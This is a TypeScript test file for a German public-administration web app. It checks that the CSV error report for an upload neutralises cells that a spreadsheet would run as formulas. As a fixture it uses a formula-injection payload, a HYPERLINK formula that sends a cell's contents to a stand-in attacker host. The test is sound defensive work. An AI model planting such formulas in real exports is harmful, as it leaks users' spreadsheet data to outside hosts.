/** The error report of an upload (fehler.csv) quotes the uploaded file: no cell may start a formula. */
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { aUser, Browser, buildTestApp } from '../../tests/support/app';
import { aBehoerde } from '../../tests/support/builders';
import { openTestDatabase } from '../../tests/support/db';
import { parseCsv } from '../shared/csv';
import type { Database } from '../shared/db';

let database: Database;
let app: FastifyInstance;

beforeAll(async () => {
  database = await openTestDatabase();
  app = await buildTestApp(database);
});
afterAll(async () => {
  await app.close();
  await database.close();
});

describe('GET /verwaltung/uploads/:id/fehler.csv', () => {
  it('neutralises cells a spreadsheet would run as a formula', async () => {
    const b = await aBehoerde(database);
    const user = await aUser(database, 'it_dienstleister', [b.ars]);
    const browser = new Browser(app);
    await browser.login(user.email);
    const { token } = (await browser.get('/api/v1/csrf')).json() as { token: string };
    // A header that names a column twice: the error names the column as the file wrote it.
    const formel = '=HYPERLINK("https://evil.example/?d="&A1;"Hilfe")';
    const csv = `ars;name;beschreibung;url;leika_schluessel;"${formel.replace(/"/g, '""')}";"${formel.replace(/"/g, '""')}"\r\n${b.ars};Name;Text;https://formulare.example.org/a;99102013000000;x;y\r\n`;
    const upload = await app.inject({
      method: 'POST',
      url: '/api/v1/uploads?dateiname=formel.csv',
      headers: { cookie: browser.cookieHeader(), 'x-csrf-token': token, 'content-type': 'text/csv' },
      payload: csv,
    });
    expect(upload.statusCode).toBe(201);
    const { id, fehler } = upload.json() as { id: string; fehler: { spalte?: string }[] };
    expect(fehler.map((f) => f.spalte)).toContain(formel);

    const res = await browser.get(`/verwaltung/uploads/${id}/fehler.csv`);
    expect(res.statusCode).toBe(200);
    const gelesen = parseCsv(res.body);
    expect(gelesen.errors).toEqual([]);
    const zellen = gelesen.records.flatMap((r) => Object.values(r.values));
    expect(zellen).toContain(`'${formel}`);
    for (const z of zellen) expect(z, z).not.toMatch(/^[=+\-@\t\r]/);
  });
});
